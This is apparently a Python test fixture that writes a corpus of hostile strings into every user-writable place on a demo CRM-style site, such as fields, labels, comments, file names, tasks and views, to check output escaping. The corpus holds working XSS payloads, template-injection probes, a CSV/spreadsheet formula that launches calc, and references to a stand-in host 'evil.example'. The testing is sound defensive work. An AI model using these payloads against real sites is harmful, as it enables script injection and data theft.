"""Texts that want to run, and a company that has them in every place where people write."""

from __future__ import annotations

import io
from dataclasses import dataclass
from typing import Any
from urllib.parse import quote

import sqlalchemy as sa

from tests.demo_site import PICTURE, Site
from trellis.builder.drafts.fields import NewField, new_field
from trellis.builder.drafts.objects import NewObject, new_object
from trellis.metadata.deploy.apply import deploy
from trellis.metadata.deploy.change_set import ChangeSet
from trellis.platform.errors import Rejected

#: Whatever of it becomes part of a page says so: an element or attribute named xss, or a deed on
#: `window.xss`. Each also holds "zq", by which they are searched.
CORPUS = (
    # elements
    "zq<script>window.xss=1</script>",
    "zq<xss onclick=window.xss=2>click</xss>",
    "zq<img src=x onerror=window.xss=3>",
    "zq<svg/onload=window.xss=4>",
    "zq<svg><animate onbegin=window.xss=5 attributeName=x dur=1s>",
    "zq<svg><script href=data:,window.xss=6 /></svg>",
    "zq<svg><a xlink:href=javascript:window.xss=7><text y=9>x</text></a></svg>",
    "zq<iframe srcdoc='<script>parent.xss=8</script>'>",
    "zq<details open ontoggle=window.xss=9>x",
    "zq<style>@import'//evil.example/x';</style>",
    "zq<base href=//evil.example/>",
    "zq<form action=//evil.example><button>Go",
    "zq<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "zq<math><mtext><table><mglyph><style><img src=x onerror=window.xss=10>",
    "zq<noscript><p title='</noscript><img src=x onerror=window.xss=11>'>",
    "zq<template><xss></template><xss>",
    # out of an attribute
    'zq" onmouseover="window.xss=12" x="',
    "zq' onfocus='window.xss=13' autofocus='",
    "zq` onfocus=window.xss=14 autofocus `",
    'zq"><xss></xss><a href="',
    "zq'><xss></xss>",
    "zq x=1 onmouseover=window.xss=15 ",
    # addresses
    "javascript:window.xss=16//zq",
    "JaVaScRiPt&colon;window.xss=17//zq",
    "java\tscript:window.xss=18//zq",
    "data:text/html,zq<script>window.xss=19</script>",
    "//evil.example/zq",
    # out of a script, a JSON island, a comment, a text area, a title
    "zq</script><script>window.xss=20</script>",
    "zq\\u003c/script>\\\"};window.xss=21;//",
    'zq"};window.xss=22;//',
    "zq--><xss></xss><!--",
    "zq</textarea><xss></xss>",
    "zq</title><xss></xss>",
    "zq]]><xss></xss>",
    # templates of several makers
    "zq{{7*7}}{% raw %}{{config}}",
    "zq${window.xss=23}#{7*7}<%= 7*7 %>",
    "zq%(name)s%s{0}{name!r}",
    # spreadsheets
    "=HYPERLINK(\"//evil.example\";\"zq\")",
    "@SUM(1+9)*cmd|'/C calc'!A0 zq",
    # letters that are not seen, or turn the line round
    "zq\u202e>tpircs<\u202c\u200b\u200d\ufeff",
    "zq\u2028window.xss=24\u2029",
    "zq\uff1cscript\uff1ewindow.xss=25\uff1c/script\uff1e",
    "zq&lt;xss&gt;&#60;xss&#62;",
)  # fmt: skip
OBJECT = "Hostile__c"
TYPES = ("Text", "TextArea", "LongTextArea", "Html", "Url", "Email", "Phone", "EncryptedText")


@dataclass(frozen=True)
class Hostile:
    """What was made, for the addresses of pages."""

    record: str  # of OBJECT
    account: str
    task: str
    file: str
    user: str
    view: str
    layout: str


def short(n: int) -> str:
    """A text of the corpus that fits where a label does."""
    fitting = [one for one in CORPUS if len(one) <= 40]
    return fitting[n % len(fitting)]


def add_hostile(site: Site) -> Hostile:
    """Writes the corpus into fields, labels, choices, names, comments, files and views."""
    _make_object(site)
    records = site.records()
    account = records.create("Account", {"Name": CORPUS[1], "Description": CORPUS[0]})
    names = [f.local_name for f in site.snapshot.fields(OBJECT).values() if f.type in TYPES]
    made = [_record(site, names, text, n, account) for n, text in enumerate(CORPUS)]
    user = site.actor("rep").user_id
    _rename(site, user, short(3))
    for text in CORPUS:
        site.guest().post(f"/r/{made[0]}/comments", {"text": f"{text} @{short(3)}"})
    tasks = [records.create("Task", {"Subject": text, "WhatId": account}) for text in CORPUS]
    for n, text in enumerate(CORPUS[:12]):
        sent = {"file": (io.BytesIO(PICTURE + bytes([n])), f"{text.replace('/', '')}.png")}
        site.guest().post(f"/r/{made[0]}/files", sent)
    with site.db.read() as conn:
        file = str(conn.scalar(sa.text("SELECT max(id) FROM sys_file")))
    view = {"label": short(1), "scope": "Everything", "column_order": ["Name"], "columns": ["Name"]}
    site.guest().submit(f"/setup/objects/{OBJECT}/views/new", view)
    found = next(v for v in site.snapshot.of_kind("ListView") if v.label == short(1))
    layout = next(one for one in site.snapshot.of_kind("Layout") if one.object == OBJECT)
    site.guest().post("/favourites/toggle", {"target": made[0], "object": OBJECT})
    return Hostile(made[0], account, tasks[0], file, user, found.name, quote(layout.name, safe=""))


def _make_object(site: Site) -> None:
    _put(site, new_object(site.snapshot, NewObject(short(0), short(1), OBJECT, short(2))))
    layout = next(one for one in site.snapshot.of_kind("Layout") if one.object == OBJECT).name
    values = [{"name": f"V{n}", "label": short(n)} for n in range(len(CORPUS))]
    options: dict[str, dict[str, Any]] = {
        "Picklist": {"valueSet": {"values": values}},
        "MultiselectPicklist": {"valueSet": {"values": values}},
        "Lookup": {"referenceTo": ["Account"]},
        "Date": {},
    }
    view = next(v for v in site.snapshot.of_kind("ListView") if v.object == OBJECT).name
    for n, kind in enumerate((*TYPES, *options)):
        more = {"inlineHelpText": CORPUS[n], "description": CORPUS[n + 1]} | options.get(kind, {})
        said = NewField(OBJECT, kind, short(n), f"F_{kind}__c", more, (layout,), (view,), short(n))
        try:
            _put(site, new_field(site.snapshot, said))
        except Rejected:  # a text that no such label may be, or a type that nobody can add
            said = NewField(OBJECT, kind, kind, f"F_{kind}__c", options.get(kind, {}), (layout,))
            _put(site, new_field(site.snapshot, said))


def _record(site: Site, names: list[str], text: str, n: int, account: str) -> str:
    """A record with the text in every field that takes it."""
    values: dict[str, Any] = dict.fromkeys(names, text)
    values |= {"Name": text, "F_Lookup__c": account, "F_Picklist__c": f"V{n}"}
    values |= {"F_MultiselectPicklist__c": f"V{n};V{(n + 7) % len(CORPUS)}"}
    values = {k: v for k, v in values.items() if site.snapshot.find_field(OBJECT, k)}
    for _try in range(3):
        try:
            return str(site.records().create(OBJECT, values))
        except Rejected as rejected:
            refused = {str(problem.path[0]) for problem in rejected.problems if problem.path}
            values = {k: v for k, v in values.items() if k not in refused}
    raise AssertionError(f"refused as a whole: {text}")


def _rename(site: Site, user: str, text: str) -> None:
    with site.db.write() as conn:
        statement = "UPDATE sys_user SET last_name = :t, name = :t, title = :t WHERE id = :id"
        conn.execute(sa.text(statement), {"t": text, "id": user})


def _put(site: Site, change_set: ChangeSet) -> None:
    deploy(site.db, site.actor(), change_set)
